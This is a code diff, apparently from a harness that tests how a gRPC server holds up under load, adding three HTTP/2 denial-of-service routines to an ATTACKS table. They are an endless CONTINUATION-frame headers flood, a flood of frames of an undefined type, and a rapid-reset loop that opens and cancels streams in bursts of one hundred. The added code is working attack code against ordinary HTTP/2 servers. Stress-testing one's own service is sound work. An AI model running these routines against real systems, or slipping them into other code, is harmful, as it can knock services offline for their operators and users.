@@ -105,6 +105,60 @@ def dribbled_handshakes(target):
         time.sleep(0.5)
 
 
+def _flood_frames(target, begin, more):
+    """On one connection whose answers are not read, until the server ends it."""
+    connection = target.connect(target.grpc)
+    connection.settimeout(2)
+    send_all(connection, http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0) + begin)
+    yield
+    while send_all(connection, more):
+        pass
+    connection.close()
+
+
+def endless_headers(target):
+    """Headers of one call, 4 KiB each, without end."""
+    begin = http2.frame(http2.HEADERS, 0, 1, http2.call_headers(messages.GENERATE))
+    yield from _flood_frames(target, begin, http2.frame(http2.CONTINUATION, 0, 1, http2.header("x-a", "y" * 120) * 120) * 8)
+
+
+def unknown_frames(target):
+    """Frames of a type that there is not."""
+    yield from _flood_frames(target, b"", http2.frame(0x42, 0, 0, b"x" * 16000) * 8)
+
+
+def _reset_calls(target, path):
+    connection = target.connect(target.grpc)
+    connection.settimeout(0.01)
+    send_all(connection, http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
+    yield
+    headers = http2.call_headers(path)
+    stream = 1
+    while True:
+        burst = b""
+        for _ in range(100):
+            burst += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
+            burst += http2.frame(http2.DATA, 1, stream, b"\0\0\0\0\0")
+            burst += http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL)
+            stream += 2
+        try:
+            connection.settimeout(2)
+            connection.sendall(burst)
+            connection.settimeout(0.001)
+            if not connection.recv(1 << 20):
+                break
+        except TimeoutError:
+            continue
+        except OSError:
+            break
+    connection.close()
+
+
+def reset_calls(target):
+    """Calls that are reset as soon as they are opened."""
+    yield from _reset_calls(target, messages.STREAM_GENERATE)
+
+
 # Preparing: work that a small request asks for.
 
 
@@ -333,6 +387,9 @@ ATTACKS = {
         http_unread_metrics,
         http_polling,
         dribbled_handshakes,
+        endless_headers,
+        unknown_frames,
+        reset_calls,
         connect_flood,
         connect_flood_apart,
     )
